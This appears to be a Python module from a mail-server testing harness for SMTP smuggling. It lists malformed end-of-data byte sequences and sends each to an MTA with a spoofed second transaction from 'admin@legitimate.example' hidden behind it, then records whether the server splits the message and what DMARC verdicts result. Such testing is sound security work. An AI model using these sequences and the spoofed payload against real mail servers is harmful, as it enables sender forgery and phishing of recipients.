"""SMTP smuggling: sequences that one server takes for the end of the data and another does not. What is smuggled
is a message of its own to whoever ends there, from the same client: it is judged as such."""

import smtplib
from dataclasses import dataclass

from .attack import ATTACKER
from .runners import ByMta, words_in

SEQUENCES = (b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r\n.\r", b"\r.\r\n", b"\n.\r", b"\r\n\x00.\r\n",
             b"\r\n.\x00\r\n", b"\r\n.\r\r\n", b"\r.\n", b"\n\n.\r\n", b"\r\n.\n\r\n", b"\r\n. \r\n", b"\r\r\n.\r\r\n",
             b"\r\n\x0b.\r\n")


@dataclass(frozen=True)
class Smuggled:
    """What one MTA made of a sequence: the verdicts of each message that came to us."""

    verdicts: tuple[dict[str, str], ...]
    is_refused: bool = False

    def __str__(self):
        if self.is_refused:
            return "is refused"
        if len(self.verdicts) < 2:
            return "is body"
        return "ends the message; the second: " + ", ".join(f"dmarc={verdict['dmarc']}" for verdict in self.verdicts[1:])


def smuggle(mta: ByMta, sequence: bytes) -> Smuggled:
    """An honest message of the attacker's, and behind the sequence one of the victim's."""
    inner = (b"MAIL FROM:<admin@legitimate.example>\r\nRCPT TO:<smuggled@example.org>\r\nDATA\r\n"
             b"From: <admin@legitimate.example>\r\nSubject: smuggled\r\n\r\nPay.\r\n.\r\n")
    mta.gate.forget()
    with mta.mta.connect(ATTACKER) as connection:
        connection.command("MAIL FROM:<any@attack.example>")
        connection.command("RCPT TO:<outer@example.org>")
        connection.command("DATA")
        try:
            reply = connection.say(b"From: <any@attack.example>\r\n\r\nAt five?" + sequence + inner)
            connection.command("QUIT")
        except smtplib.SMTPServerDisconnected:
            return Smuggled((), is_refused=True)
    if not reply.accepted and not mta.gate.log_lines(1, 0.2):
        return Smuggled((), is_refused=True)
    return Smuggled(tuple(words_in(line) for line in mta.gate.log_lines()))
